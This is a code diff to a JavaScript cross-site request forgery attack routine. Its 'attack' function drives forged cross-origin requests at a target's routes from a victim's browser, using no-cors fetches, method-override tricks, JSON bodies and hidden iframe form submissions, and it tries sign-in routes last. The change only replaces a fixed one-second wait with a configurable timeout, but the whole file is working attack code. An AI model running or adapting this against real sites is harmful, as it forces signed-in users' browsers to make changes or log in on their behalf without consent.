@@ -11,7 +11,7 @@ const bodies = route => ({
   parameters: new URLSearchParams(route.form),
 });
 
-const ways = (address, route) => [
+const ways = (address, route, patience) => [
   // A browser sends no other method than POST without asking first; it is asked all the same.
   ...Object.values(bodies(route)).map(body => () => send(address, { method: route.method, mode: 'no-cors', body })),
   ...Object.values(bodies(route)).map(body => () => send(`${address}?_method=${route.method}`, { method: 'POST', mode: 'no-cors', body })),
@@ -19,17 +19,17 @@ const ways = (address, route) => [
   () => send(address, { method: route.method, headers: { 'Content-Type': 'application/json' }, body: route.json }),
   () => send(address, { method: 'POST', headers: { 'X-HTTP-Method-Override': route.method } }),
   () => send(address, { method: 'GET', mode: 'no-cors' }),
-  ...formTypes.map(type => () => submit(address, type, route)),
+  ...formTypes.map(type => () => submit(address, type, route, patience)),
 ];
 
 // At how many routes an attack is under way at a time.
 const atOnce = 4;
 
 // One part of several takes its share of the ways, another one at each route. Who is signed in is tried last, one way after the other.
-async function attack(base, routes, part, parts) {
+async function attack(base, routes, part, parts, patience) {
   const attacks = routes.map((route, number) => ({
     isSignIn: route.isSignIn,
-    acts: ways(base + route.path, route).filter((_, way) => (way + number + part) % parts === 0),
+    acts: ways(base + route.path, route, patience).filter((_, way) => (way + number + part) % parts === 0),
   }));
   const changes = attacks.filter(({ isSignIn }) => !isSignIn);
   for (let first = 0; first < changes.length; first += atOnce)
@@ -47,7 +47,7 @@ async function send(address, options) {
 }
 
 // The oldest way, and the only one that is no script's. A text that is JSON comes out of a plain form when its name holds the beginning.
-function submit(address, type, route) {
+function submit(address, type, route, patience) {
   return new Promise(done => {
     const frame = document.createElement('iframe');
     frame.name = `target${submit.count = (submit.count ?? 0) + 1}`;
@@ -60,11 +60,11 @@ function submit(address, type, route) {
       form.append(input);
     }
     document.body.append(frame, form);
-    // Beside what the form brings, the frame loads its empty page once; a download brings nothing.
+    // Beside what the form brings, the frame loads its empty page once. A download brings nothing, nor does an answer without content: they are waited for as long as the form's own request may take.
     const end = () => { frame.remove(); form.remove(); done(); };
     frame.onload = () => { if (frame.dataset.sent) end(); };
     frame.dataset.sent = 'yes';
-    setTimeout(end, 1000);
+    setTimeout(end, patience);
     form.submit();
   });
 }
